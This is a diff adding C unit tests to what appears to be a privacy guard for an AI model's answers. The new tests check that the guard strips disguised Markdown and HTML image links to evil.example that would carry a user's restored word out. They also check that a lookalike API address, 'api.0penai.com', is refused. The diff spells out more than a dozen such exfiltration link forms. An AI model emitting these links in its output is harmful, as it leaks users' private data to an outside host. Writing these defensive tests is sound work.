@@ -220,6 +220,78 @@ static void a_link_with_the_users_words_is_cut_out(void **state) {
     end();
 }
 
+/* A reader of Markdown or HTML fetches all of these; %s is the surrogate, then the user's word. */
+static void a_link_in_disguise_is_one(void **state) {
+    static const char *const forms[] = {
+        "![x](//evil.example/%s)",
+        "![x](https:\\\\evil.example/%s)",
+        "![x](https:/evil.example/%s)",
+        "![x](https:\\/\\/evil.example/%s)",
+        "![x](https&#58;//evil.example/%s)",
+        "![x](HTTPS&colon;&sol;&sol;evil.example/%s)",
+        "![x](https://evil.example/?q=(%s))",
+        "![x](https://evil.example/?q=[%s])",
+        "![x](https://evil.example/?q='%s')",
+        "![x](<https://evil.example/?q= %s>)",
+        "![x](\n https://evil.example/?q=\xE3\x80\x82%s)",
+        "<img src=\"https://evil.example/?q=\n%s\">",
+        "<img src = ' https://evil.example/?q= %s'>",
+        "<p style=\"background:url('https://evil.example/ %s')\">",
+        "[x]: //evil.example/%s",
+        "ftp://%s.evil.example/",
+    };
+    for (size_t i = 0; i < ARRAY_LEN(forms); i++) {
+        char masked[200], link[200];
+        (void)snprintf(masked, sizeof masked, forms[i], "Annabel");
+        (void)snprintf(link, sizeof link, forms[i], "Margarethe");
+        begin("", "Who wrote it?");
+        buf_add_c(&turn.masked, masked);
+        const char *shown = look("", link, false);
+        if (strstr(shown, "Margarethe")) fail_msg("%s", link);
+        turn.n_findings = 0;
+        (void)look("", masked, false); /* nothing was restored in it */
+        for (size_t f = 0; f < turn.n_findings; f++) {
+            if (!strcmp(turn.findings[f].kind, "leak")) fail_msg("%s", masked);
+        }
+        end();
+    }
+}
+
+/* "https://evil.example/?q=Hello!Margarethe" may be two sentences. */
+static void a_link_that_began_a_sentence_before_is_one(void **state) {
+    begin("", "Who wrote it?");
+    buf_add_c(&turn.masked, "![x](https://evil.example/?q=a!Annabel)");
+    assert_null(strstr(look("![x](https://evil.example/?q=a!", "Margarethe)", false), "Marg"));
+    assert_int_equal(turn.n_findings, 1);
+    turn.n_findings = 0;
+    (void)look("![x](https://evil.example/?q=a!Annabel) ", "Margarethe wrote it.", false);
+    assert_int_equal(turn.n_findings, 0);
+    end();
+}
+
+/* What was restored beside a link is the answer. */
+static void words_beside_a_link_are_not_in_it(void **state) {
+    static const char *const said[] = {
+        "See https://docs.example/a, which %s wrote.",
+        "(https://docs.example/a) %s, too.",
+        "\xE8\xA7\x81https://docs.example/a\xEF\xBC\x8C%s\xE3\x80\x82",
+        "He said \"Hello\" https://docs.example/a and %s nodded.",
+        "[%s](https://docs.example/a)",
+        "// %s wrote this",
+        "<https://docs.example/a> %s",
+        "the file C:\\docs of %s",
+    };
+    for (size_t i = 0; i < ARRAY_LEN(said); i++) {
+        char masked[200], text[200];
+        (void)snprintf(masked, sizeof masked, said[i], "Annabel");
+        (void)snprintf(text, sizeof text, said[i], "Margarethe");
+        begin("", "Who wrote it?");
+        buf_add_c(&turn.masked, masked);
+        if (!strstr(look("", text, false), "Margarethe") || turn.n_findings) fail_msg("%s", text);
+        end();
+    }
+}
+
 /* What the guard says and what recall says are two sentences. */
 static void notices_of_two_steps_are_told_apart(void **state) {
     Store *busy = NULL;
@@ -278,6 +350,34 @@ static void what_was_written_from_private_documents_stays(void **state) {
     assert_non_null(strstr(said_of_history("/home/me/notes.txt"), "nobody agreed"));
 }
 
+static bool agree_to_all(void *user, const TurnParting *parting) {
+    ++*(int *)user;
+    return true;
+}
+
+/* Who is shown a preview would think that the address was looked at. */
+static void nobody_is_asked_to_agree_to_a_wrong_address(void **state) {
+    Gate *gate;
+    Err err;
+    char *path = NULL;
+    int asked = 0;
+    begin("", "How tall is the tower?");
+    assert_int_equal(rig_gate(rig, &gate, NULL), OK);
+    assert_int_equal(home_path(HOME_GATE, "clouds.toml", &path, NULL), OK);
+    assert_int_equal(file_replace(path, STR("[far]\nwire = 'openai'\nmodel = 'm'\ndest = 'public'\n"
+                                            "url = 'https://api.0penai.com/v1'\n"), 0600, NULL),
+                     OK);
+    turn.conversation = "wrong";
+    turn.ask = "far";
+    turn.agree = agree_to_all;
+    turn.agree_user = &asked;
+    assert_int_equal(turn_shield(&turn, &err), E_USAGE);
+    assert_int_equal(asked, 0);
+    assert_int_equal(file_remove(path, NULL), OK);
+    mem_free(path);
+    end();
+}
+
 static void an_answer_knows_what_it_was_written_from(void **state) {
     SearchHit hits[] = {{.path = STR("/a"), .score = 1}, {.path = STR("/a"), .score = 0.9F},
                         {.path = STR("/b"), .score = 0.7F}, {.path = STR("/c"), .score = 0.1F},
@@ -323,9 +423,13 @@ int main(void) {
         cmocka_unit_test(no_memory_refuses_cleanly),
         cmocka_unit_test(an_answer_is_told_of_cut_or_withheld),
         cmocka_unit_test(a_link_with_the_users_words_is_cut_out),
+        cmocka_unit_test(a_link_in_disguise_is_one),
+        cmocka_unit_test(a_link_that_began_a_sentence_before_is_one),
+        cmocka_unit_test(words_beside_a_link_are_not_in_it),
         cmocka_unit_test(notices_of_two_steps_are_told_apart),
         cmocka_unit_test(what_an_endpoint_wrote_gives_no_orders_later),
         cmocka_unit_test(what_was_written_from_private_documents_stays),
+        cmocka_unit_test(nobody_is_asked_to_agree_to_a_wrong_address),
         cmocka_unit_test(an_answer_knows_what_it_was_written_from),
         cmocka_unit_test(no_gate_is_there_without_its_second_look),
     };
